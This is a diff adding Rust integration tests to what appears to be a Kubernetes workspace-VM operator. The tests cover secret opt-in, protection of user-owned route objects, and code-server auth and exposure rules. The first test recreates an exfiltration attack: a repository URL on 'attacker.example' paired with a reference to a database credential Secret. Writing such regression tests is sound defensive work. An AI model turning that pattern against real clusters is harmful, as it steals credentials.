@@ -135,6 +135,30 @@ async fn missing_secret_is_secret_not_found() {
 }
 
 #[tokio::test]
+async fn a_secret_that_has_not_opted_in_is_secret_not_allowed_and_never_reaches_the_vm() {
+    // The attack from issue 9: any Secret in the namespace, aimed at a host the user controls.
+    let w = World::new().await;
+    w.cluster.put_secret_labelled("team", "db-creds", "password", "hunter2-db-password", &[]);
+    let mut pvm = projectvm(
+        "exfil",
+        "  repository: {url: 'https://attacker.example/x.git', credentialsSecretRef: {name: db-creds, key: password}}\n",
+    );
+    w.until(&mut pvm, "SecretNotAllowed", SHORT, |s| stalled_with(s, "SecretNotAllowed")).await;
+    let s = pvm.vm_status().unwrap();
+    assert_terminal(&w, "exfil", s, "RepositorySynced", "SecretNotAllowed", "projectvm.dev/allowed=true");
+    assert!(harness::condition(s, "RepositorySynced").message.contains("team/db-creds"));
+    let leaked = |t: &str| t.contains("hunter2-db-password");
+    assert!(w.vms.files.lock().unwrap().iter().all(|(_, c)| !leaked(c)), "the value reached a file on the VM");
+    assert!(w.vms.commands.lock().unwrap().iter().all(|c| !leaked(c)), "the value reached a command");
+    assert!(!leaked(&serde_json::to_string(s).unwrap()));
+
+    // Opting in (the Secret's owner labels it) lets it through, without touching the spec.
+    w.cluster.put_secret("team", "db-creds", "password", "hunter2-db-password");
+    w.until_ready(&mut pvm).await;
+    assert!(w.vms.files.lock().unwrap().iter().any(|(_, c)| leaked(c)), "the opted-in value is in the helper");
+}
+
+#[tokio::test]
 async fn failed_install_is_prerequisites_failed_with_the_log_tail() {
     let w = World::new().await;
     w.guest(|g| g.prerequisites = (1, format!("E: Unable to locate package nope\n{}", "é".repeat(1500))));
@@ -257,6 +281,82 @@ async fn a_refused_route_is_a_condition_not_a_log_line() {
     w.until(&mut ws, "Routed refused", SHORT, |s| harness::has_reason(s, "Routed", "KubernetesError")).await;
     let c = harness::condition(ws.vm_status().unwrap(), "Routed");
     assert!(c.message.contains("must be no more than 63 characters"), "{}", c.message);
+}
+
+#[tokio::test]
+async fn a_route_object_someone_else_made_is_never_taken_over_or_deleted() {
+    let w = World::new().await;
+    // A user's own Service of the name the route would use, and their own Ingress too.
+    let theirs = kube::api::ObjectMeta {
+        name: Some("taken-workspace".into()),
+        namespace: Some("team".into()),
+        labels: Some([("app".to_string(), "mine".to_string())].into()),
+        ..Default::default()
+    };
+    let key = |kind: &str| (kind.to_string(), "team".to_string(), "taken-workspace".to_string());
+    w.cluster.route_objects.lock().unwrap().insert(key("Service"), theirs.clone());
+    let mut ws = workspace("taken", "  repository: {url: 'https://git.example.test/acme/demo.git'}\n");
+    w.until(&mut ws, "RouteConflict", SHORT, |s| stalled_with(s, "RouteConflict")).await;
+    assert_terminal(&w, "taken", ws.vm_status().unwrap(), "Routed", "RouteConflict", "Service team/taken-workspace");
+    assert_eq!(w.cluster.route_objects.lock().unwrap()[&key("Service")], theirs, "their Service was changed");
+
+    // Once their Service is gone the route is made; their Ingress of the same name, which
+    // this Workspace (without spec.ingress) does not ask for, is left alone.
+    {
+        let mut objects = w.cluster.route_objects.lock().unwrap();
+        objects.remove(&key("Service"));
+        objects.insert(key("Ingress"), theirs.clone());
+    }
+    w.until_ready(&mut ws).await;
+    assert_eq!(
+        w.cluster.route_objects.lock().unwrap().get(&key("Ingress")),
+        Some(&theirs),
+        "their Ingress was deleted"
+    );
+}
+
+#[tokio::test]
+async fn code_server_without_auth_only_where_allowed_and_never_on_an_external_address() {
+    let spec = "  codeServer: {auth: none}\n  repository: {url: 'https://git.example.test/acme/demo.git'}\n";
+    // By default: refused.
+    let w = World::new().await;
+    let mut ws = workspace("open", spec);
+    w.until(&mut ws, "AuthNoneNotAllowed", SHORT, |s| stalled_with(s, "AuthNoneNotAllowed")).await;
+    assert_terminal(
+        &w,
+        "open",
+        ws.vm_status().unwrap(),
+        "CodeServerConfigured",
+        "AuthNoneNotAllowed",
+        "codeServer.allowAuthNone",
+    );
+    // Allowed, but the VM has an external address: refused, naming it.
+    let w = World::with_flags(&["--allow-auth-none=true"]).await;
+    let mut ws = workspace("open", spec);
+    w.until(&mut ws, "AuthNoneNotAllowed", SHORT, |s| stalled_with(s, "AuthNoneNotAllowed")).await;
+    assert_terminal(&w, "open", ws.vm_status().unwrap(), "CodeServerConfigured", "AuthNoneNotAllowed", "useInternalIp");
+    // Allowed, and VMs have no external address: served, with no plain-HTTP warning.
+    let w = World::with_flags(&["--allow-auth-none=true", "--use-internal-ip=true"]).await;
+    let mut ws = workspace("open", spec);
+    w.until_ready(&mut ws).await;
+    let s = ws.vm_status().unwrap();
+    let inst = w.instance(s.instance.as_ref().unwrap().name.as_deref().unwrap()).await.unwrap();
+    assert_eq!(inst.external_ip, None, "an instance made with useInternalIp has no access config");
+    assert!(!harness::condition(s, "Routed").message.contains("warning"));
+    assert!(w.cluster.events_of("open").iter().all(|e| e.reason != "PlainHTTPOnPublicAddress"));
+}
+
+#[tokio::test]
+async fn a_plain_http_url_on_an_external_address_is_flagged() {
+    let w = World::new().await;
+    let mut ws = workspace("exposed", "  repository: {url: 'https://git.example.test/acme/demo.git'}\n");
+    w.until_ready(&mut ws).await;
+    let routed = harness::condition(ws.vm_status().unwrap(), "Routed");
+    assert!(routed.message.contains("plain HTTP on the VM's external address"), "{}", routed.message);
+    assert!(
+        w.cluster.events_of("exposed").iter().any(|e| e.warning && e.reason == "PlainHTTPOnPublicAddress"),
+        "no Warning event"
+    );
 }
 
 // --- transient vs terminal --------------------------------------------------------------
